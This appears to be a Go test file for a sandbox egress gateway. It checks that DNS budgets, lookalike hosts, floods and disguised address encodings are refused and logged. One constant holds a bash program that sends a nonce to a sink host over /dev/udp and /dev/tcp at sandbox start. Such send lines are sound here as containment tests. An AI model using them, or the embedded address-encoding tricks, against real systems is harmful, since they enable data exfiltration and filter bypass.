package corpus

import (
	"context"
	_ "embed"
	"errors"
	"fmt"
	"net/netip"
	"strings"

	"github.com/enclave-run/enclave"
)

// namesRunOut judges A08: the first 1,024 names are answered, the rest refused, and
// nobody outside was asked for one.
func namesRunOut(r *run) []finding {
	var refused uint64
	for _, d := range r.result.Denials {
		if d.Reason != "budget" {
			return []finding{found(auditBreak, "a look-up was refused for %s", d.Reason)}
		}
		refused += d.Count
	}
	if !r.bare && refused != 1200-1024 {
		return []finding{found(auditBreak, "%d of 1,200 look-ups were refused", refused)}
	}
	r.proof("%d of 1,200 names were refused, and none was asked of a name server", refused)
	return nil
}

// lookalikesAreRefused judges A20: nothing but a name below the allowed one, as it
// is written, may pass, and none of these is one.
func lookalikesAreRefused(r *run) []finding {
	if r.bare {
		return nil
	}
	if n := len(r.result.Denials); n < 7 {
		return []finding{found(auditBreak, "%d rows of refusals: %v", n, r.attempts("egress_denied"))}
	}
	for _, d := range r.result.Denials {
		if d.Protocol != "dns" || d.Reason != "not_allowed" && d.Reason != "bad_host" {
			return []finding{found(auditBreak, "refused as %v", d)}
		}
	}
	r.proof("refused: %s", strings.Join(r.attempts("egress_denied"), ", "))
	return nil
}

// floodIsCounted judges A34: few rows, the last of which counts what has none. What a
// full queue inside of the sandbox drops has reached nobody, and is not counted.
func floodIsCounted(r *run) []finding {
	if r.bare {
		return nil
	}
	var sum uint64
	for _, d := range r.result.Denials {
		sum += d.Count
	}
	n := len(r.result.Denials)
	r.proof("%d of %d attempts reached the gateway and are on the record, in %d rows", sum, floods, n)
	if n == 0 || n > 401 || sum > floods || sum < uint64(n) || r.result.Denials[n-1].Host != "*" || r.result.Denials[n-1].Reason != "budget" {
		return []finding{found(auditBreak, "%d attempts in %d rows, the last of them %v", sum, n, r.result.Denials[max(n-1, 0):])}
	}
	return nil
}

// floods is how many attempts A34 makes.
const floods = 30_000

// firstInstruction is a program whose first act is to send.
const firstInstruction = `echo $NONCE >/dev/udp/` + sink4 + `/9999
echo $NONCE >/dev/tcp/` + sink4 + `/9999
echo '$ARMED'
`

// startups is how many fresh sandboxes race, by the letter of the backend: a boot of
// an emulated machine takes seconds.
var startups = map[string]int{"G": 200, "D": 200, "F": 20}

func startupRace(ctx context.Context, r *run) error {
	n := 2
	if full {
		n = startups[r.world.kernel.letter]
	}
	want := []string{"udp " + sink4 + " 9999 protocol 1", "tcp " + sink4 + " 9999 not_allowed 1"}
	for i := range n {
		a := *r.attack
		a.language, a.code, a.drive, a.ends = "bash", firstInstruction, nil, &ends{denied: want}
		one := &run{attack: &a, world: r.world, nonce: r.nonce, flagPath: r.flagPath, flag: r.flag}
		if err := one.execute(ctx, nil); err != nil {
			return fmt.Errorf("sandbox %d: %w", i, err)
		}
		for _, f := range append(one.findings, one.judgeEnd()...) {
			r.find(f.class, "sandbox %d: %s", i, f.what)
		}
		r.surfaces = append(r.surfaces[:0], one.surfaces...)
		if err := literalOrder(one.events); err != nil {
			r.find(auditBreak, "sandbox %d: %v", i, err)
		}
		if !strings.Contains(one.stdout(), r.receipt()) {
			r.find(vacuous, "sandbox %d gave no receipt", i)
		}
	}
	r.proof("%d fresh sandboxes", n)
	return nil
}

// encodings are ways to write an address that is not for the public, and hosts that
// some parser takes for one.
//
//go:embed testdata/encodings.txt
var encodings string

// formsAreRefused judges A17: none was dialled (judgeAlways), each that left the
// sandbox is on the record, and as a rule none that is an address is accepted.
func formsAreRefused(r *run) (all []finding) {
	if r.bare {
		return nil
	}
	for _, d := range r.result.Denials {
		if d.Reason != "not_allowed" && d.Reason != "bad_host" && d.Reason != "reserved_address" && d.Reason != "no_address" {
			all = append(all, found(auditBreak, "refused as %v", d))
		}
	}
	if n := len(r.result.Denials); n < 40 {
		all = append(all, found(auditBreak, "%d refusals are on the record: %v", n, r.attempts("egress_denied")))
	}
	refused := 0
	for form := range strings.SplitSeq(strings.TrimSuffix(encodings, "\n"), "\n") {
		h, err := r.world.client.Run(context.Background(), enclave.SessionRequest{Code: "pass", Egress: enclave.Egress{Mode: enclave.Allowlist, Allow: []string{form}}})
		switch {
		case errors.Is(err, enclave.ErrInvalid):
			refused++
		case err != nil:
			all = append(all, found(infra, "a rule %q: %v", form, err))
		default:
			_ = h.Teardown(context.Background())
			if _, err := netip.ParseAddr(strings.Trim(form, "[].")); err == nil {
				all = append(all, found(lateral, "%q was accepted as a rule", form))
			} else {
				r.proof("%q was accepted as a rule: it is a name", form)
			}
		}
	}
	r.proof("%d attempts refused on the record; %d forms refused as rules", len(r.result.Denials), refused)
	return all
}
